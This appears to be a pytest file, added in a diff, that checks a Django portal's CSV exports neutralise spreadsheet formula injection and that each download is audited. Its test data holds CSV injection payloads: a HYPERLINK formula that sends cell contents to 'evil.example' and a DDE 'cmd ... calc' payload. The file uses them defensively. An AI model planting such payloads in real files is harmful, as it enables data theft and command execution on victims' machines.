@@ -1,0 +1,213 @@
+"""Every file the portal lets a member download (CSV, YAML, JSON): spreadsheet formulas in
+untrusted cells are neutralised (OWASP CSV injection), and each download leaves exactly one
+`export.download` audit event saying what was exported."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.urls import URLPattern, URLResolver, get_resolver
+from django.utils import timezone
+
+from audit.models import AuditEvent
+from inventory.models import AwsAccount, Resource
+from policies import services
+from policies.models import Finding
+from policies.spec import parse_rules
+from tagsense.csvexport import safe_cell
+from tagsense.tenancy.db import tenant_scope
+from tests.conftest import client_for
+
+pytestmark = pytest.mark.django_db
+
+ACCOUNT = "111111111111"
+DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
+# A payload per dangerous start, and the same after leading whitespace.
+PAYLOADS = [f'{c}HYPERLINK("http://evil.example/?"&A1,"x")' for c in DANGEROUS] + [
+    f" {c}cmd|' /C calc'!A0" for c in DANGEROUS
+]
+
+RULES = parse_rules(
+    """
+version: 1
+rules:
+  - {id: owner-required, title: Owner, check: required_key, key: Owner}
+  - id: env
+    title: e
+    check: allowed_values
+    key: Environment
+    values: {list: [prod, dev]}
+"""
+)
+
+
+def spreadsheet_would_run(cell: str) -> bool:
+    return cell.lstrip(" \n").startswith(tuple(DANGEROUS))
+
+
+@pytest.fixture
+def hostile_estate(org):
+    """Resources whose every attacker-controlled text begins like a formula: names, ids, ARNs,
+    tag keys and values; findings whose owner, found key and owner teams do too."""
+    now = timezone.now()
+    with tenant_scope(org):
+        account = AwsAccount.objects.create(organization=org, account_id=ACCOUNT)
+        for i, payload in enumerate(PAYLOADS):
+            Resource.objects.create(
+                organization=org,
+                account=account,
+                arn=f"{payload}-arn-{i}",
+                region="eu-west-1",
+                resource_type="ec2:instance",
+                resource_id=f"{payload}-id-{i}",
+                name=payload,
+                tags={payload: payload},  # sorted first: the tags cell starts with the key
+                fingerprint="x",
+                first_seen=now,
+                last_written=now,
+            )
+        for spec in RULES:
+            services.create_rule(org, spec)
+        findings = list(Finding.objects.for_org(org).order_by("id"))
+        assert len(findings) >= len(PAYLOADS)
+        for finding, payload in zip(findings, PAYLOADS * 2, strict=False):
+            Finding.objects.filter(pk=finding.pk).update(
+                owner=payload, found_key=payload, owner_teams=[payload]
+            )
+    return account
+
+
+def _csv(response) -> list[list[str]]:
+    assert response.status_code == 200, response.content
+    body = b"".join(response.streaming_content).decode()
+    return list(csv.reader(io.StringIO(body)))
+
+
+CSV_EXPORTS = {
+    "inventory": "/o/{slug}/inventory/?format=csv",
+    "findings": "/o/{slug}/findings/?format=csv",
+}
+
+
+@pytest.mark.parametrize("name", sorted(CSV_EXPORTS))
+def test_no_csv_cell_starts_like_a_formula(org, admin, hostile_estate, name):
+    rows = _csv(client_for(admin).get(CSV_EXPORTS[name].format(slug=org.slug)))
+    assert len(rows) > len(PAYLOADS)  # the header and the hostile rows are all there
+    cells = [cell for row in rows for cell in row]
+    running = [cell for cell in cells if spreadsheet_would_run(cell)]
+    assert running == []
+    # Nothing is dropped: each payload is still there, readable, behind a quote.
+    for payload in PAYLOADS:
+        assert f"'{payload}" in cells or any(c.startswith(f"'{payload}") for c in cells)
+
+
+def test_every_csv_column_with_untrusted_text_is_neutralised(org, admin, hostile_estate):
+    rows = _csv(client_for(admin).get(f"/o/{org.slug}/inventory/?format=csv"))
+    header, body = rows[0], rows[1:]
+    for column in ("arn", "id", "name", "tags"):
+        index = header.index(column)
+        assert {row[index][0] for row in body} == {"'"}, column
+    rows = _csv(client_for(admin).get(f"/o/{org.slug}/findings/?format=csv"))
+    header, body = rows[0], rows[1:]
+    for column in ("found_key", "arn", "owner", "owner_teams"):
+        index = header.index(column)
+        assert {row[index][0] for row in body} == {"'"}, column
+
+
+def test_csv_cells_are_quoted_so_a_separator_cannot_start_a_cell():
+    from tagsense.csvexport import csv_lines
+
+    line = list(csv_lines(["h"], [["a,=1+1", "=2", "plain", None, 5]]))[1]
+    assert line == '"a,=1+1","\'=2","plain","","5"\r\n'
+    assert safe_cell("\u00a0=1") == "'\u00a0=1" and safe_cell("x=1") == "x=1"
+
+
+# --- every export is audited ---------------------------------------------------------------
+
+EXPORTS = {
+    # name: (url, kind, format)
+    "inventory-csv": (
+        "/o/{slug}/inventory/?format=csv&type=ec2:instance", "inventory.resources", "csv",
+    ),
+    "findings-csv": ("/o/{slug}/findings/?format=csv&severity=medium", "policies.findings", "csv"),
+    "rules-yaml": ("/o/{slug}/policies/export.yaml", "policies.rules", "yaml"),
+    "aws-json": ("/o/{slug}/policies/aws/export.json", "policies.aws_tag_policy", "json"),
+    "api-rules-yaml": ("/api/v1/o/{slug}/policies/export/?active=1", "policies.rules", "yaml"),
+    "api-aws-json": (
+        "/api/v1/o/{slug}/policies/aws-tag-policies/export/",
+        "policies.aws_tag_policy",
+        "json",
+    ),
+}  # fmt: skip
+
+
+def _exports(organization) -> list[AuditEvent]:
+    with tenant_scope(organization):
+        return list(AuditEvent.objects.filter(action="export.download").order_by("seq"))
+
+
+@pytest.mark.parametrize("name", sorted(EXPORTS))
+def test_every_export_writes_one_audit_event_saying_what(org, other_org, admin, name):
+    with tenant_scope(org):
+        account = AwsAccount.objects.create(organization=org, account_id=ACCOUNT)
+        now = timezone.now()
+        for i in range(3):
+            Resource.objects.create(
+                organization=org, account=account, arn=f"arn:aws:ec2:eu-west-1:{ACCOUNT}:i/{i}",
+                region="eu-west-1", resource_type="ec2:instance", resource_id=f"i-{i}",
+                name=f"r{i}", tags={}, fingerprint="x", first_seen=now, last_written=now,
+            )  # fmt: skip
+        for spec in RULES:
+            services.create_rule(org, spec)
+    url, kind, file_format = EXPORTS[name]
+    before = len(_exports(org))
+    response = client_for(admin).get(url.format(slug=org.slug))
+    assert response.status_code == 200, response.content
+    if hasattr(response, "streaming_content"):
+        b"".join(response.streaming_content)
+    events = _exports(org)
+    assert len(events) == before + 1
+    event = events[-1]
+    assert event.data["kind"] == kind and event.data["format"] == file_format
+    assert event.actor_id == str(admin.pk)
+    expected_rows = {
+        "inventory.resources": 3,  # three instances
+        "policies.findings": 3,  # one missing Owner per resource (medium, the default)
+        "policies.rules": 2,
+        "policies.aws_tag_policy": 2,  # owner and environment
+    }[kind]
+    assert event.data["rows"] == expected_rows
+    query = dict(p.split("=", 1) for p in url.partition("?")[2].split("&") if p)
+    query.pop("format", None)
+    assert event.data["filters"] == query
+    assert _exports(other_org) == []
+
+
+def test_a_filter_with_control_characters_is_kept_readably(org, admin):
+    from audit.exports import describe_filters
+
+    assert describe_filters({"q": "a\x00b\nc" + "x" * 300, "format": "csv"}) == {
+        "q": "abc" + "x" * 197
+    }
+
+
+def _routes(resolver=None, prefix=""):
+    for entry in (resolver or get_resolver()).url_patterns:
+        if isinstance(entry, URLResolver):
+            yield from _routes(entry, prefix + str(entry.pattern))
+        elif isinstance(entry, URLPattern):
+            yield prefix + str(entry.pattern), entry
+
+
+def test_every_export_route_is_in_this_suite():
+    """A new download route must join EXPORTS (and so be audited and tested)."""
+    listed = {url.split("{slug}/", 1)[1].split("?")[0] for url, _, _ in EXPORTS.values()}
+    found = set()
+    for route, _ in _routes():
+        if "export" in route or route.endswith((".csv", ".yaml", ".json")):
+            tail = route.split("<slug:org_slug>/", 1)[-1]
+            if "graph.json" not in tail and "schema" not in tail:
+                found.add(tail)
+    assert found <= listed | {"inventory/resources/<int:pk>/graph.json"}, found - listed
